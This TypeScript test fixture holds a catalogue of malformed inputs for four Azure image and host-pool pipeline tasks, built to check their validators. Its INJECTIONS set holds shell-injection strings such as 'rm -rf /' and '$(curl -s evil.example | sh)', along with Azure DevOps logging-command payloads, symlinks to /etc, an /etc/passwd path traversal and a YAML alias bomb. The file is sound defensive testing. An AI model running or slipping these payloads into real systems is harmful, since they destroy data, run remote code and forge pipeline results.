// The bad-input catalogue (issue 16, section 3): malformed inputs of the four tasks, each with the
// input its one error must name and a fragment of what would be right. The worlds the cases run
// in are here too: each task's simulator scenario and the valid inputs a case changes.
import * as fs from 'fs';
import * as path from 'path';
import type { Scenario } from '../sim';
import { SIM_IDS } from '../sim';
import { baseResources, IMAGE_LINUX, IMAGE_WIN, RG as IMG_RG } from '../sim/domain/support';
import { devBoxScenario, GALLERY as DEVBOX_GALLERY } from './attachGalleryFixtures';
import {
  GALLERY as AVD_GALLERY,
  hostPoolScenario,
  NOT_IN_REGION,
  PoolWorld,
  version as avdVersion,
} from './hostPoolFixtures';
import type { TaskName } from '../../scripts/tasks';

export type Category =
  | 'format'
  | 'range'
  | 'wrong type'
  | 'missing resource'
  | 'empty'
  | 'huge'
  | 'injection'
  | 'symlink'
  | 'malformed file';

export interface BadInput {
  task: TaskName;
  category: Category;
  /** What is wrong, for the test's title. */
  what: string;
  /** Inputs over the task's valid ones; null removes one. */
  inputs: Record<string, string | null>;
  /** Files the case needs, made in the run's sources folder; returns more inputs (their paths). */
  files?: (sources: string) => Record<string, string>;
  /** The input the error must name. */
  input: string;
  /** A fragment of what would be right (or of the problem), as the message must say it. */
  right: string | RegExp;
}

const SUB = `/subscriptions/${SIM_IDS.subscriptionId}`;
const rg = (name: string) => `${SUB}/resourceGroups/${name}`;

/** Values that try to run a shell, break out of a quoted string or issue a logging command. */
export const INJECTIONS = {
  quote: `x'; rm -rf / #`,
  dquote: 'x" && curl evil.example #',
  subshell: '$(curl -s evil.example | sh)',
  backtick: '`id`',
  semicolon: 'a;b',
  newline: 'line1\n##vso[task.setvariable variable=pwned]yes',
  vso: '##vso[task.complete result=Succeeded;]pwned',
  vsoInline: 'ok ##vso[task.setvariable variable=pwned;]yes',
};
/** The logging commands the injections above carry: none may reach the agent as a command. */
export const PAYLOADS = [
  '##vso[task.setvariable variable=pwned]yes',
  '##vso[task.complete result=Succeeded;]pwned',
  '##vso[task.setvariable variable=pwned;]yes',
];

const huge = (n: number, c = 'a') => c.repeat(n);

/** Writes `files` (path -> text) under `dir`. */
function write(dir: string, files: Record<string, string>): void {
  for (const [rel, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), text);
  }
}

/** An artifacts folder `art` with one file and a link `link` to `target`. */
function linkedFolder(sources: string, target: string): Record<string, string> {
  write(sources, { 'art/setup.sh': 'echo hi\n' });
  fs.symlinkSync(target, path.join(sources, 'art', 'link'));
  return { packagePath: path.join(sources, 'art') };
}

// ---- BuildImage

export const BUILD_WORLD: Scenario = {
  timeScale: 0.003,
  resources: [
    ...baseResources(),
    {
      id: `${IMG_RG}/providers/Microsoft.Network/virtualNetworks/vnet-build`,
      type: 'Microsoft.Network/virtualNetworks',
      location: 'westeurope',
      properties: { addressSpace: { addressPrefixes: ['10.0.0.0/16'] } },
    },
  ],
};
export const BUILD_INPUTS: Record<string, string> = {
  location: 'westeurope',
  resourceGroup: 'rg-img',
  managedIdentity: 'aib-identity',
  pollInterval: '250ms',
  sourceImage: 'Canonical:0001-com-ubuntu-server-jammy:22_04-lts-gen2',
  galleryImageDefinitionId: IMAGE_LINUX,
  scriptSource: 'inline',
  inlineScript: 'echo hello',
};
const VM_ID = `${IMG_RG}/providers/Microsoft.Compute/virtualMachines/vm-1`;

const build = (
  category: Category,
  what: string,
  inputs: BadInput['inputs'],
  input: string,
  right: BadInput['right'],
  files?: BadInput['files'],
): BadInput => ({ task: 'BuildImage', category, what, inputs, input, right, files });

const BUILD: BadInput[] = [
  build(
    'format',
    'a URN with an empty offer',
    { sourceImage: 'Canonical::22_04' },
    'sourceImage',
    'publisher:offer:sku',
  ),
  build(
    'format',
    'a region with punctuation',
    { location: 'west-europe!' },
    'location',
    'westeurope',
  ),
  build('format', 'a VM size without its tier', { vmSize: 'D4s' }, 'vmSize', 'Standard_'),
  build(
    'format',
    'a two-part gallery version',
    { versionStrategy: 'explicit', galleryImageVersion: '1.2' },
    'galleryImageVersion',
    'Major.Minor.Patch',
  ),
  build('format', 'a poll interval in words', { pollInterval: 'soon' }, 'pollInterval', '90s'),
  build(
    'format',
    'a replica count in words',
    { targetRegions: 'westeurope=two' },
    'targetRegions',
    'whole number',
  ),
  build(
    'format',
    'a tag without a value',
    { managedResourceTags: 'owner' },
    'managedResourceTags',
    'name=value',
  ),
  build(
    'format',
    'a boolean that is not one',
    { restart: 'maybe' },
    'restart',
    "'true' or 'false'",
  ),
  build('range', 'an OS disk of 5000 GB', { osDiskSizeGB: '5000' }, 'osDiskSizeGB', '4095'),
  build('range', 'a build timeout of 961 minutes', { buildTimeout: '961' }, 'buildTimeout', '16h'),
  build('range', '101 replicas', { targetRegions: 'westeurope=101' }, 'targetRegions', '100'),
  build(
    'range',
    'a Windows Update limit of 0',
    {
      windowsUpdate: 'true',
      sourceImage: 'MicrosoftWindowsDesktop:windows-11:win11-23h2-ent',
      galleryImageDefinitionId: IMAGE_WIN,
      windowsUpdateLimit: '0',
    },
    'windowsUpdateLimit',
    '1 to 10000',
  ),
  build(
    'wrong type',
    'a VM id as the image definition',
    { galleryImageDefinitionId: VM_ID },
    'galleryImageDefinitionId',
    'image definition',
  ),
  build(
    'wrong type',
    'a virtual network id as the subnet',
    { subnetId: `${IMG_RG}/providers/Microsoft.Network/virtualNetworks/vnet-build` },
    'subnetId',
    'subnets/',
  ),
  build(
    'wrong type',
    'a gallery id as the identity',
    { managedIdentity: `${IMG_RG}/providers/Microsoft.Compute/galleries/gal` },
    'managedIdentity',
    'userAssignedIdentities',
  ),
  build(
    'wrong type',
    'a managed image id as a gallery version source',
    {
      sourceType: 'galleryImageVersion',
      sourceImage: `${IMG_RG}/providers/Microsoft.Compute/images/img-1`,
    },
    'sourceImage',
    'versions/',
  ),
  build(
    'missing resource',
    'an image definition that does not exist',
    { galleryImageDefinitionId: `${IMG_RG}/providers/Microsoft.Compute/galleries/gal/images/nope` },
    'galleryImageDefinitionId',
    'does not exist',
  ),
  build(
    'missing resource',
    'a resource group that does not exist',
    { resourceGroup: 'rg-nope' },
    'resourceGroup',
    'rg-nope',
  ),
  build(
    'missing resource',
    'an identity that does not exist',
    { managedIdentity: 'nope-identity' },
    'managedIdentity',
    'does not exist',
  ),
  build(
    'missing resource',
    'a source gallery version that does not exist',
    { sourceImage: `${IMAGE_LINUX}/versions/9.9.9` },
    'sourceImage',
    'does not exist',
  ),
  build(
    'missing resource',
    'a build subnet that does not exist',
    { subnetId: `${IMG_RG}/providers/Microsoft.Network/virtualNetworks/vnet-build/subnets/nope` },
    'subnetId',
    'nope',
  ),
  build(
    'missing resource',
    'a build VM identity that does not exist',
    { buildVmIdentities: 'vm-identity-nope' },
    'buildVmIdentities',
    'vm-identity-nope',
  ),
  build('empty', 'a blank location', { location: '   ' }, 'location', 'a value is required'),
  build('empty', 'a blank inline script', { inlineScript: ' \n\t\n ' }, 'inlineScript', 'commands'),
  build(
    'empty',
    'a blank resource group',
    { resourceGroup: '\t' },
    'resourceGroup',
    'a value is required',
  ),
  build(
    'huge',
    'a 5000-character resource group',
    { resourceGroup: huge(5000) },
    'resourceGroup',
    'resource group',
  ),
  build(
    'huge',
    'a version number past 32 bits',
    { versionStrategy: 'explicit', galleryImageVersion: '1.0.99999999999' },
    'galleryImageVersion',
    '2147483647',
  ),
  build(
    'huge',
    'a 300-character staging group',
    { stagingResourceGroup: huge(300) },
    'stagingResourceGroup',
    'resource group name',
  ),
  build(
    'injection',
    'a quote in the resource group',
    { resourceGroup: INJECTIONS.quote },
    'resourceGroup',
    'resource group',
  ),
  build(
    'injection',
    'a subshell as the template name',
    { action: 'wait', templateName: INJECTIONS.subshell },
    'templateName',
    'image template name',
  ),
  build(
    'injection',
    'a logging command after a newline in the version',
    { versionStrategy: 'explicit', galleryImageVersion: `1.0.0${INJECTIONS.newline}` },
    'galleryImageVersion',
    'Major.Minor.Patch',
  ),
  build(
    'injection',
    'a logging command in the VM size',
    { vmSize: `Standard_D2s_v3${INJECTIONS.vsoInline}` },
    'vmSize',
    'Standard_',
  ),
  build(
    'injection',
    'a backtick in the region',
    { location: `westeurope${INJECTIONS.backtick}` },
    'location',
    'westeurope',
  ),
  build(
    'injection',
    'a semicolon in the storage account',
    { storageAccountName: INJECTIONS.semicolon },
    'storageAccountName',
    'lower-case letters and digits',
  ),
  build('symlink', 'an artifacts link to /etc', {}, 'packagePath', 'outside the folder', (s) =>
    linkedFolder(s, '/etc'),
  ),
  build(
    'symlink',
    'an artifacts link to /etc, the task making its own identity',
    { managedIdentity: null },
    'packagePath',
    'outside the folder',
    (s) => linkedFolder(s, '/etc'),
  ),
  build(
    'symlink',
    'an artifacts link to the parent folder',
    {},
    'packagePath',
    'outside the folder',
    (s) => linkedFolder(s, '..'),
  ),
  build('symlink', 'a dangling artifacts link', {}, 'packagePath', 'does not exist', (s) =>
    linkedFolder(s, path.join(s, 'gone')),
  ),
  build(
    'symlink',
    'a script file linked from outside the sources',
    { scriptSource: 'file', inlineScript: null },
    'scriptPath',
    'sources',
    (s) => {
      fs.symlinkSync('/etc/hostname', path.join(s, 'build.sh'));
      return { scriptPath: path.join(s, 'build.sh') };
    },
  ),
  build(
    'malformed file',
    'a customisers file that is not JSON or YAML',
    { scriptSource: null, inlineScript: null },
    'customizersFile',
    'customize',
    (s) => {
      write(s, { 'customizers.json': '[{"type": "Shell", "inline": ["echo"]' });
      return { customizersFile: path.join(s, 'customizers.json') };
    },
  ),
  build(
    'malformed file',
    'a customisers file that is an object, not a list',
    { scriptSource: null, inlineScript: null },
    'customizersFile',
    'list',
    (s) => {
      write(s, { 'customizers.yml': 'type: Shell\ninline:\n  - echo hi\n' });
      return { customizersFile: path.join(s, 'customizers.yml') };
    },
  ),
  build(
    'malformed file',
    'a customiser of an unknown type',
    { scriptSource: null, inlineScript: null },
    'customizersFile',
    'Shell',
    (s) => {
      write(s, { 'customizers.json': '[{"type": "Bash", "inline": ["echo hi"]}]' });
      return { customizersFile: path.join(s, 'customizers.json') };
    },
  ),
  build(
    'malformed file',
    'a customiser file source outside the sources folder',
    { scriptSource: null, inlineScript: null },
    'customizersFile',
    'inside the repository',
    (s) => {
      write(s, {
        'customizers.json': JSON.stringify([
          {
            type: 'File',
            name: 'passwd',
            sourceUri: '../../../etc/passwd',
            destination: '/tmp/passwd',
          },
        ]),
      });
      return { customizersFile: path.join(s, 'customizers.json') };
    },
  ),
  build(
    'malformed file',
    'a customisers file whose YAML aliases stand for 387 million values',
    { scriptSource: null, inlineScript: null },
    'customizersFile',
    'aliases',
    (s) => {
      const levels = ['    l0: &l0 [' + Array(9).fill('"lol"').join(', ') + ']'];
      for (let i = 1; i < 9; i++)
        levels.push(
          `    l${i}: &l${i} [${Array(9)
            .fill(`*l${i - 1}`)
            .join(', ')}]`,
        );
      write(s, {
        'bomb.yml': ['- type: Shell', '  inline: ["echo hi"]', '  extra:', ...levels, ''].join(
          '\n',
        ),
      });
      return { customizersFile: path.join(s, 'bomb.yml') };
    },
  ),
  build(
    'malformed file',
    'a template file that is not JSON',
    { sourceImage: null, scriptSource: null, inlineScript: null },
    'templateFile',
    'JSON',
    (s) => {
      write(s, { 'template.json': '{ "type": "Microsoft.VirtualMachineImages/imageTemplates", ' });
      return { templateFile: path.join(s, 'template.json') };
    },
  ),
  build(
    'malformed file',
    'a template without a source',
    { sourceImage: null, scriptSource: null, inlineScript: null },
    'templateFile',
    'source',
    (s) => {
      write(s, {
        'template.json': JSON.stringify({ properties: { customize: [], distribute: [] } }),
      });
      return { templateFile: path.join(s, 'template.json') };
    },
  ),
  build(
    'malformed file',
    'template parameters that are not name=value',
    { sourceImage: null, scriptSource: null, inlineScript: null, templateParameters: 'imageName' },
    'templateParameters',
    'name=value',
    (s) => {
      write(s, {
        'template.json': JSON.stringify({
          properties: {
            source: {
              type: 'PlatformImage',
              publisher: 'Canonical',
              offer: '0001-com-ubuntu-server-jammy',
              sku: '22_04-lts-gen2',
              version: 'latest',
            },
            customize: [],
            distribute: [],
          },
        }),
      });
      return { templateFile: path.join(s, 'template.json') };
    },
  ),
];

// ---- DistributeToGallery

const DIST_RG = rg('rg-dist');
const distImage = (name: string) => `${DIST_RG}/providers/Microsoft.Compute/images/${name}`;
const DIST_GALLERY = `${DIST_RG}/providers/Microsoft.Compute/galleries/golden`;
export const DIST_WORLD: Scenario = {
  timeScale: 0.003,
  resources: [
    { id: DIST_RG, type: 'Microsoft.Resources/resourceGroups', location: 'westeurope' },
    {
      id: distImage('img-1'),
      type: 'Microsoft.Compute/images',
      location: 'westeurope',
      properties: {
        hyperVGeneration: 'V2',
        storageProfile: { osDisk: { osType: 'Windows', osState: 'Generalized' } },
      },
    },
    { id: DIST_GALLERY, type: 'Microsoft.Compute/galleries', location: 'westeurope' },
    {
      id: `${DIST_GALLERY}/images/win11`,
      type: 'Microsoft.Compute/galleries/images',
      location: 'westeurope',
      properties: {
        osType: 'Windows',
        osState: 'Generalized',
        hyperVGeneration: 'V2',
        identifier: { publisher: 'contoso', offer: 'win11', sku: 'ent' },
      },
    },
    {
      id: `${DIST_RG}/providers/Microsoft.Network/virtualNetworks/vnet-1`,
      type: 'Microsoft.Network/virtualNetworks',
      location: 'westeurope',
      properties: { addressSpace: { addressPrefixes: ['10.0.0.0/16'] } },
    },
  ],
};
export const DIST_INPUTS: Record<string, string> = {
  source: distImage('img-1'),
  galleryResourceGroup: 'rg-dist',
  galleryName: 'golden',
  imageDefinition: 'win11',
  versionStrategy: 'explicit',
  version: '1.0.0',
  targetRegions: 'westeurope',
  pollInterval: '500ms',
};

const dist = (
  category: Category,
  what: string,
  inputs: BadInput['inputs'],
  input: string,
  right: BadInput['right'],
): BadInput => ({ task: 'DistributeToGallery', category, what, inputs, input, right });

const DIST: BadInput[] = [
  dist('format', 'a two-part version', { version: '1.0' }, 'version', 'Major.Minor.Patch'),
  dist(
    'format',
    'a date that is not one',
    { endOfLifeDate: '2027-13-45' },
    'endOfLifeDate',
    '2027-06-30',
  ),
  dist(
    'format',
    'a feature without a value',
    { imageFeatures: 'IsAcceleratedNetworkSupported' },
    'imageFeatures',
    'Name=Value',
  ),
  dist(
    'format',
    'a subscription that is not a GUID',
    { shareWithSubscriptions: 'my-subscription' },
    'shareWithSubscriptions',
    'GUID',
  ),
  dist(
    'format',
    'an unknown storage account type',
    { storageAccountType: 'Premium_GRS' },
    'storageAccountType',
    'Standard_LRS',
  ),
  dist(
    'format',
    'a tag name Azure refuses',
    { tags: 'microsoft.owner=me' },
    'tags',
    'not starting with',
  ),
  dist(
    'format',
    'an unknown region',
    { targetRegions: 'westeurop' },
    'targetRegions',
    'westeurope',
  ),
  dist('range', '0 replicas', { replicaCount: '0' }, 'replicaCount', 'from 1 to 100'),
  dist(
    'range',
    'an end of life in the past',
    { endOfLifeDate: '2020-01-01' },
    'endOfLifeDate',
    'in the future',
  ),
  dist(
    'range',
    'a recommended vCPU range upside down',
    { recommendedVCpus: '16-2' },
    'recommendedVCpus',
    'min-max',
  ),
  dist(
    'range',
    'a prune count of -1',
    { action: 'prune', pruneKeep: '-1' },
    'pruneKeep',
    '0 to 1000',
  ),
  dist(
    'range',
    'a replication timeout of 0',
    { replicationTimeout: '0s' },
    'replicationTimeout',
    'duration',
  ),
  dist(
    'wrong type',
    'a virtual network id as the source',
    { source: `${DIST_RG}/providers/Microsoft.Network/virtualNetworks/vnet-1` },
    'source',
    'managed image',
  ),
  dist(
    'wrong type',
    'a gallery id as the image definition',
    { imageDefinition: DIST_GALLERY },
    'imageDefinition',
    'images/<definition>',
  ),
  dist(
    'wrong type',
    'a definition id as the version to promote',
    { action: 'promote', version: `${DIST_GALLERY}/images/win11` },
    'version',
    'versions/<version>',
  ),
  dist(
    'wrong type',
    'a storage container URL as the storage account',
    {
      source: 'https://vhdstore01.blob.core.windows.net/vhds/os.vhd',
      sourceStorageAccountId: `${DIST_RG}/providers/Microsoft.Compute/disks/d1`,
    },
    'sourceStorageAccountId',
    'storageAccounts/<name>',
  ),
  dist(
    'missing resource',
    'a source image that does not exist',
    { source: distImage('no-such-image') },
    'source',
    'does not exist',
  ),
  dist(
    'missing resource',
    'a VM source that does not exist',
    { source: `${DIST_RG}/providers/Microsoft.Compute/virtualMachines/vm-nope` },
    'source',
    'vm-nope',
  ),
  dist(
    'missing resource',
    'a version to promote that does not exist',
    { action: 'promote', version: '7.7.7' },
    'version',
    'does not exist',
  ),
  dist(
    'missing resource',
    'a region that does not exist for a new gallery',
    { galleryName: 'newgal', location: 'marsnorth' },
    'location',
    'marsnorth',
  ),
  dist('empty', 'a blank source', { source: '  ' }, 'source', 'a value is required'),
  dist(
    'empty',
    'a blank image definition',
    { imageDefinition: '\n' },
    'imageDefinition',
    'a value is required',
  ),
  dist('empty', 'a blank explicit version', { version: ' \t ' }, 'version', 'a value is required'),
  dist(
    'huge',
    'an 81-character gallery name',
    { galleryName: huge(81) },
    'galleryName',
    'up to 80 characters',
  ),
  dist('huge', 'a 257-character tag value', { tags: `owner=${huge(257)}` }, 'tags', '256'),
  dist(
    'huge',
    'a version part past 32 bits',
    { version: '1.0.4294967296' },
    'version',
    '2147483647',
  ),
  dist(
    'injection',
    'a path in the gallery resource group',
    { galleryResourceGroup: 'rg-dist/providers/Microsoft.Compute/galleries/x' },
    'galleryResourceGroup',
    'resource group name',
  ),
  dist(
    'injection',
    'a subshell as the gallery name',
    { galleryName: INJECTIONS.subshell },
    'galleryName',
    'letters, digits',
  ),
  dist(
    'injection',
    'a quote in the image definition',
    { imageDefinition: INJECTIONS.quote },
    'imageDefinition',
    'letters, digits',
  ),
  dist(
    'injection',
    'a logging command in the version',
    { version: INJECTIONS.vso },
    'version',
    'Major.Minor.Patch',
  ),
  dist(
    'injection',
    'a logging command after a newline in a tag name',
    { tags: `a/b=1${INJECTIONS.newline}` },
    'tags',
    'name',
  ),
  dist(
    'injection',
    'a percent-encoded slash in the source id',
    { source: `${DIST_RG}/providers/Microsoft.Compute/images/img%2F..%2F..%zz` },
    'source',
    'managed image',
  ),
];

// ---- UpdateHostPool

export const POOL = new PoolWorld({ key: 'badin', hosts: 2 });
export const POOL_WORLD: Scenario = hostPoolScenario([POOL]);
export const POOL_INPUTS = (): Record<string, string> => POOL.inputs();

const pool = (
  category: Category,
  what: string,
  inputs: BadInput['inputs'],
  input: string,
  right: BadInput['right'],
): BadInput => ({ task: 'UpdateHostPool', category, what, inputs, input, right });

const POOL_CASES: BadInput[] = [
  pool(
    'format',
    'a host pool name with a space',
    { hostPool: 'hp bad' },
    'hostPool',
    'host pool name',
  ),
  pool('format', 'a zone that is not 1 to 3', { zones: '1, 4' }, 'zones', '1, 2 or 3'),
  pool(
    'format',
    'a domain that is not a DNS name',
    {
      joinType: 'activeDirectory',
      domain: 'contoso',
      domainJoinUser: 'j@contoso.local',
      domainJoinPassword: 'P@ssw0rd-123!',
    },
    'domain',
    'corp.contoso.com',
  ),
  pool('format', 'a batch size in words', { batchSize: 'two' }, 'batchSize', 'whole number'),
  pool('format', 'an unknown action', { action: 'upgrade' }, 'action', 'rollout'),
  pool(
    'format',
    'a weak admin password',
    { adminPassword: 'password' },
    'adminPassword',
    '12 to 123 characters',
  ),
  pool('range', 'a batch size of 0', { batchSize: '0' }, 'batchSize', 'from 1 to 1000'),
  pool('range', 'a poll interval of 10 ms', { pollInterval: '10ms' }, 'pollInterval', 'at least'),
  pool(
    'range',
    'a warning longer than the drain timeout',
    { drainTimeout: '5m', logOffWarning: '10m' },
    'logOffWarning',
    'no longer than drainTimeout',
  ),
  pool('range', 'a negative canary', { canary: '-1' }, 'canary', 'from 1 to 1000'),
  pool(
    'wrong type',
    'a managed image id as the image',
    { image: `${rg('rg-avd-images')}/providers/Microsoft.Compute/images/win11-avd-build` },
    'image',
    'versions/<version>',
  ),
  pool(
    'wrong type',
    'an application group id as the host pool',
    { hostPool: `${POOL.rg}/providers/Microsoft.DesktopVirtualization/applicationGroups/ag-1` },
    'hostPool',
    'hostPools/<name>',
  ),
  pool(
    'wrong type',
    'a virtual network id as the subnet',
    { subnetId: POOL.vnet },
    'subnetId',
    'subnets/<subnet>',
  ),
  pool(
    'missing resource',
    'a host pool that does not exist',
    { hostPool: 'hp-nope' },
    'hostPool',
    'hp-nope',
  ),
  pool(
    'missing resource',
    'an image version that does not exist',
    { image: avdVersion('9.9.9') },
    'image',
    'does not exist',
  ),
  pool(
    'missing resource',
    'an image version not replicated to the pool',
    { image: NOT_IN_REGION },
    'image',
    'westeurope',
  ),
  pool(
    'missing resource',
    'a resource group that does not exist',
    { resourceGroup: 'rg-nope' },
    'hostPool',
    "resource group 'rg-nope'",
  ),
  pool(
    'missing resource',
    'a subnet that does not exist',
    { subnetId: `${POOL.vnet}/subnets/nope` },
    'subnetId',
    'does not exist',
  ),
  pool(
    'missing resource',
    'a VM resource group that does not exist',
    { vmResourceGroup: 'rg-vms-nope' },
    'vmResourceGroup',
    'rg-vms-nope',
  ),
  pool('empty', 'a blank host pool', { hostPool: '   ' }, 'hostPool', 'a value is required'),
  pool('empty', 'a blank image', { image: '\t\n' }, 'image', 'a value is required'),
  pool(
    'empty',
    'a pool name without its resource group',
    { resourceGroup: ' ' },
    'resourceGroup',
    'resource group',
  ),
  pool(
    'huge',
    'a 2000-character name prefix',
    { namePrefix: `avd-${huge(2000)}` },
    'namePrefix',
    '15',
  ),
  pool(
    'huge',
    'a batch size of a billion',
    { batchSize: '1000000000' },
    'batchSize',
    'from 1 to 1000',
  ),
  pool('huge', 'a 600-character tag name', { vmTags: `${huge(600)}=x` }, 'vmTags', '512'),
  pool(
    'injection',
    'a subshell as the name prefix',
    { namePrefix: INJECTIONS.subshell },
    'namePrefix',
    'letters, digits',
  ),
  pool(
    'injection',
    'a quote in the VM size',
    { vmSize: INJECTIONS.dquote },
    'vmSize',
    'Standard_D4s_v5',
  ),
  pool(
    'injection',
    'a logging command in the admin user',
    { adminUser: INJECTIONS.vso },
    'adminUser',
    'Windows user name',
  ),
  pool(
    'injection',
    'a path in the resource group',
    { resourceGroup: 'rg-badin/providers/x' },
    'resourceGroup',
    'resource group',
  ),
  pool(
    'injection',
    'a logging command after a newline in the zones',
    { zones: `1${INJECTIONS.newline}` },
    'zones',
    '1, 2 or 3',
  ),
];

// ---- AttachGalleryToDevCenter

export const DEVBOX_WORLD: Scenario = devBoxScenario();
export const DEVBOX_INPUTS: Record<string, string> = {
  devCenter: 'dc-main',
  resourceGroup: 'rg-devbox',
  gallery: DEVBOX_GALLERY,
  image: 'win11-devbox',
  devBoxDefinition: 'win11-8c32gb',
  pollInterval: '500ms',
};
const DEVBOX_RG = rg('rg-devbox');

const devbox = (
  category: Category,
  what: string,
  inputs: BadInput['inputs'],
  input: string,
  right: BadInput['right'],
): BadInput => ({ task: 'AttachGalleryToDevCenter', category, what, inputs, input, right });

const DEVBOX: BadInput[] = [
  devbox(
    'format',
    'a dev center name with an underscore',
    { devCenter: 'dc_main' },
    'devCenter',
    'letters, digits or dashes',
  ),
  devbox(
    'format',
    'an image version of two parts',
    { imageVersion: '1.0' },
    'imageVersion',
    '1.0.0',
  ),
  devbox(
    'format',
    'a Windows 365 id that is not a GUID',
    { windows365PrincipalId: 'windows365' },
    'windows365PrincipalId',
    'GUID',
  ),
  devbox(
    'format',
    'an OS storage type in words',
    { osStorageType: '256 GB' },
    'osStorageType',
    'ssd_256gb',
  ),
  devbox(
    'format',
    'an unknown hibernate setting',
    { hibernateSupport: 'Sometimes' },
    'hibernateSupport',
    'Disabled, Enabled',
  ),
  devbox(
    'format',
    'an unknown sku',
    { sku: 'general_i_999c_v9' },
    'sku',
    'general_i_8c32gb256ssd_v2',
  ),
  devbox(
    'range',
    'a validation timeout of 10 s',
    { validationTimeout: '10s' },
    'validationTimeout',
    'between 1m',
  ),
  devbox('range', 'a poll interval of 2 hours', { pollInterval: '2h' }, 'pollInterval', 'between'),
  devbox(
    'range',
    'a validation timeout of 2 days',
    { validationTimeout: '48h' },
    'validationTimeout',
    '24h',
  ),
  devbox(
    'wrong type',
    'a project id as the dev center',
    { devCenter: `${DEVBOX_RG}/providers/Microsoft.DevCenter/projects/proj-a` },
    'devCenter',
    'devcenters/<name>',
  ),
  devbox(
    'wrong type',
    'an image definition id as the gallery',
    { gallery: `${DEVBOX_GALLERY}/images/win11-devbox` },
    'gallery',
    'galleries/<name>',
  ),
  devbox(
    'wrong type',
    'an image version id as the image',
    { image: `${DEVBOX_GALLERY}/images/win11-devbox/versions/1.0.0` },
    'image',
    'imageVersion',
  ),
  devbox(
    'wrong type',
    'a gallery id as the identity',
    { identity: DEVBOX_GALLERY },
    'identity',
    'user-assigned identity',
  ),
  devbox(
    'wrong type',
    'an image of another gallery',
    { image: `${AVD_GALLERY}/images/win11-avd` },
    'image',
    'gallery given in gallery',
  ),
  devbox(
    'missing resource',
    'a dev center that does not exist',
    { devCenter: 'dc-nope' },
    'devCenter',
    'dc-nope',
  ),
  devbox(
    'missing resource',
    'a gallery that does not exist',
    { gallery: `${DEVBOX_RG}/providers/Microsoft.Compute/galleries/nope` },
    'gallery',
    'nope',
  ),
  devbox(
    'missing resource',
    'an image that does not exist',
    { image: 'no-such-image' },
    'image',
    'no-such-image',
  ),
  devbox(
    'missing resource',
    'an image version that does not exist',
    { imageVersion: '9.9.9' },
    'imageVersion',
    '9.9.9',
  ),
  devbox(
    'missing resource',
    'an identity that does not exist',
    { identity: 'nope-identity' },
    'identity',
    'nope-identity',
  ),
  devbox('empty', 'a blank dev center', { devCenter: '  ' }, 'devCenter', 'a value is required'),
  devbox('empty', 'a blank gallery', { gallery: '\n' }, 'gallery', 'a value is required'),
  devbox(
    'empty',
    'a version without an image',
    { image: null, imageVersion: '1.0.0' },
    'imageVersion',
    'image input',
  ),
  devbox(
    'huge',
    'a 64-character definition name',
    { devBoxDefinition: huge(64) },
    'devBoxDefinition',
    '3 to 63',
  ),
  devbox('huge', 'a 27-character dev center name', { devCenter: huge(27) }, 'devCenter', '3 to 26'),
  devbox(
    'injection',
    'a subshell as the definition name',
    { devBoxDefinition: INJECTIONS.subshell },
    'devBoxDefinition',
    'letters, digits',
  ),
  devbox(
    'injection',
    'a quote in the gallery name',
    { galleryName: INJECTIONS.quote },
    'galleryName',
    'letters, digits',
  ),
  devbox(
    'injection',
    'a logging command in the sku',
    { sku: INJECTIONS.vsoInline },
    'sku',
    'general_i_8c32gb256ssd_v2',
  ),
  devbox(
    'injection',
    'a path in the identity name',
    { identity: '../../providers/Microsoft.Compute/galleries/gal_devbox' },
    'identity',
    'user-assigned identity',
  ),
  devbox(
    'injection',
    'a newline and a logging command in the resource group',
    { resourceGroup: `rg-devbox${INJECTIONS.newline}` },
    'resourceGroup',
    'resource group',
  ),
];

export const CATALOGUE: BadInput[] = [...BUILD, ...DIST, ...POOL_CASES, ...DEVBOX];

/**
 * Controls: each task's valid inputs, with logging commands in its free-text inputs (printed, not
 * checked), run so that nothing is written (`dryRun`) or for real (DistributeToGallery has no dry
 * run), must succeed: the catalogue's failures are the cases' own, and the payloads stay text.
 */
export const CONTROLS: Record<TaskName, { inputs: Record<string, string>; writes: boolean }> = {
  BuildImage: {
    inputs: {
      action: 'validate',
      inlineScript: `echo "${PAYLOADS[0]}"\necho ${PAYLOADS[1]}`,
      managedResourceTags: `note=${PAYLOADS[2]}`,
    },
    writes: false,
  },
  DistributeToGallery: { inputs: { tags: `note=${PAYLOADS[2]}` }, writes: true },
  UpdateHostPool: {
    inputs: { action: 'plan', logOffMessage: `Bye ${PAYLOADS[0]}`, vmTags: `note=${PAYLOADS[1]}` },
    writes: false,
  },
  AttachGalleryToDevCenter: { inputs: { action: 'check' }, writes: false },
};

/** The valid inputs each task's cases start from, and its world. */
export const WORLDS: Record<
  TaskName,
  { scenario: () => Scenario; inputs: () => Record<string, string> }
> = {
  BuildImage: { scenario: () => BUILD_WORLD, inputs: () => ({ ...BUILD_INPUTS }) },
  DistributeToGallery: { scenario: () => DIST_WORLD, inputs: () => ({ ...DIST_INPUTS }) },
  UpdateHostPool: { scenario: () => POOL_WORLD, inputs: POOL_INPUTS },
  AttachGalleryToDevCenter: { scenario: () => DEVBOX_WORLD, inputs: () => ({ ...DEVBOX_INPUTS }) },
};

/** A case's inputs: the task's valid ones, the case's over them, its files' paths. */
export function caseInputs(c: BadInput, sources: string): Record<string, string> {
  const inputs: Record<string, string> = { ...WORLDS[c.task].inputs() };
  for (const [name, value] of Object.entries({ ...c.inputs, ...(c.files?.(sources) ?? {}) })) {
    if (value === null) delete inputs[name];
    else inputs[name] = value;
  }
  return inputs;
}
